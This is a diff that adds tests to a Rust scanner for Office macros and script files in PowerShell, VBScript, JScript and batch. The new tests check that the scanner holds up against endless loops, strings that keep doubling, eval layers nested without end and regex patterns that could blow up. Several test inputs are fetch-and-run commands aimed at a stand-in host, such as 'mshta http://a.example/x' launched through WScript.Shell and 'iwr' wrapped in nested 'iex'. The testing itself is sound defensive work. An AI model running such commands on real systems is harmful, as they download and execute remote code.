@@ -11,6 +11,9 @@ fn survive(code: &str) {
     survey_vba(&[module("M", ModuleKind::Standard, code)], &limits);
     read_command(code, &limits);
     survey_text(code, &limits);
+    for name in ["a.ps1", "a.bat", "a.vbs", "a.js", "a.hta"] {
+        survey_file(name, code, &limits);
+    }
 }
 
 #[test]
@@ -75,8 +78,24 @@ fn nests_and_repeats_without_end() {
         "frombase64string('",
         "$a='",
         "\u{3042}",
+        "{",
+        "function(",
+        "for %i in (",
+        "$(",
+        "\"$(",
+        "a?",
+        "<script>",
+        "#@~^",
+        "$a=$a+$a;",
+        "while(1){",
+        "do\n",
+        "select case a\ncase 1\n",
+        "class a\n",
+        "for i = 1 to 9\n",
+        "dim a(999999)\n",
+        "1..9999999|%{$_};",
     ] {
-        let text = unit.repeat(40_000 / unit.len());
+        let text = unit.repeat(6_000 / unit.len());
         survive(&text);
         survive(&format!("Sub AutoOpen()\nx = {text}\nShell x\nEnd Sub"));
     }
@@ -246,4 +265,103 @@ proptest! {
         text.splice(at..end, with.chars());
         survive(&text.into_iter().collect::<String>());
     }
+}
+
+/// Each problem of a script in a file of that name.
+fn problems(name: &str, text: &str) -> Vec<Problem> {
+    survey_file(name, text, &Limits::desk()).problems
+}
+
+#[test]
+fn scripts_that_never_end_meet_their_limit() {
+    for (name, text) in [
+        ("a.js", "var s='ab';for(;;){s+=s}"),
+        ("a.js", "function f(){for(var i=0;i<9;i++)f();return f()}f()"),
+        ("a.vbs", "For i = 1 To 2000000000\nx = x & \"a\"\nNext"),
+        ("a.vbs", "Sub f\nFor i = 1 To 9\nf\nNext\nEnd Sub\nf"),
+        ("a.ps1", "for($i=0;$i -lt 2000000000;$i++){$s+='a'}"),
+        ("a.ps1", "function f{1..9|%{f}};f"),
+        ("a.bat", "for /l %%i in (1,1,9999) do for /l %%j in (1,1,9999) do set x=%%i%%j"),
+    ] {
+        let found = problems(name, text);
+        assert!(found.iter().any(|problem| problem.limit.is_some()), "{text}: {found:?}");
+    }
+}
+
+#[test]
+fn what_stands_behind_a_loop_that_only_waits_is_read() {
+    for (name, text) in [
+        ("a.js", "for(;;){a=1;b=a}new ActiveXObject('WScript.Shell').Run('mshta http://a.example/x')"),
+        (
+            "a.vbs",
+            "Do While WScript.Interactive\nWScript.Sleep 9\nLoop\nCreateObject(\"WScript.Shell\").Run \"mshta http://a.example/x\"",
+        ),
+        ("a.ps1", "while($true){sleep 9};mshta http://a.example/x"),
+    ] {
+        let parsed = survey_file(name, text, &Limits::desk());
+        assert!(parsed.value.commands.iter().any(|command| command.fetches), "{text}");
+    }
+}
+
+#[test]
+fn strings_that_double_end() {
+    for (name, text) in [
+        ("a.js", "var s='abcdefgh';for(var i=0;i<99;i++)s=s+s;new ActiveXObject('WScript.Shell').Run(s)"),
+        (
+            "a.vbs",
+            "s = \"abcdefgh\"\nFor i = 1 To 99\ns = s & s\nNext\nCreateObject(\"WScript.Shell\").Run s",
+        ),
+        ("a.ps1", "$s='abcdefgh';1..99|%{$s+=$s};start-process $s"),
+        ("a.ps1", "$s='a'*999999999;iex $s"),
+        ("a.bat", "set s=abcdefgh\nfor /l %%i in (1,1,99) do call set s=%%s%%%%s%%\n%s%"),
+        ("a.vbs", "s = String(2000000000, \"a\")\nx = Replace(s, \"a\", s)"),
+        ("a.js", "var a=[1];for(var i=0;i<99;i++)a=a.concat(a);a.join('')"),
+    ] {
+        let parsed = survey_file(name, text, &Limits::desk());
+        let longest = parsed.value.commands.iter().map(|command| command.script.len()).max().unwrap_or(0);
+        assert!(longest <= Limits::desk().text_bytes_max, "{text}");
+    }
+}
+
+#[test]
+fn layers_without_end_are_told() {
+    let mut text = "iwr http://a.example/x".to_owned();
+    for _ in 0..50 {
+        text = format!("iex '{}'", text.replace('\'', "''"));
+        if text.len() > 1 << 20 {
+            break;
+        }
+    }
+    let told = |found: Vec<Problem>| {
+        found.iter().any(|problem| problem.limit.as_ref().is_some_and(|l| l.name == "layers_max"))
+    };
+    assert!(told(problems("a.ps1", &text)));
+    let call = "powershell -c ".repeat(50) + "iwr http://a.example/x";
+    assert!(told(problems("a.ps1", &call)));
+    assert_eq!(problems("a.js", "eval(unescape('x%3d\"a\";eval(x+\"\")'))"), []);
+    let circle = "function f(){eval('f()')}f()";
+    assert!(told(problems("a.js", circle)));
+    assert!(told(problems("a.vbs", "Sub f\nExecute \"f\"\nEnd Sub\nf")));
+}
+
+#[test]
+fn patterns_cannot_explode() {
+    let long = "a".repeat(30_000);
+    for (name, text) in [
+        ("a.js", format!("'{long}'.replace(/(a+)+b/g,'')")),
+        ("a.ps1", format!("'{long}' -replace '(a*)*b','c'")),
+        ("a.vbs", format!("Set r = New RegExp\nr.Pattern = \"(a|aa)+$b\"\nx = r.Replace(\"{long}\", \"\")")),
+        ("a.js", format!("'{long}'.match(/{}/)", "(".repeat(2_000))),
+        ("a.ps1", format!("'{long}' -match 'a{{1000}}{{1000}}{{1000}}'")),
+    ] {
+        assert_eq!(problems(name, &text), [], "{}", text.get(..40).unwrap());
+    }
+}
+
+#[test]
+fn more_commands_than_the_limit_are_told() {
+    let text = "mshta http://a.example/x\r\n".repeat(400);
+    let parsed = survey_file("a.bat", &text, &Limits::desk());
+    assert_eq!(parsed.value.commands.len(), 256);
+    assert_eq!(parsed.problems, [Problem::limit("text", "commands_max", 256)]);
 }
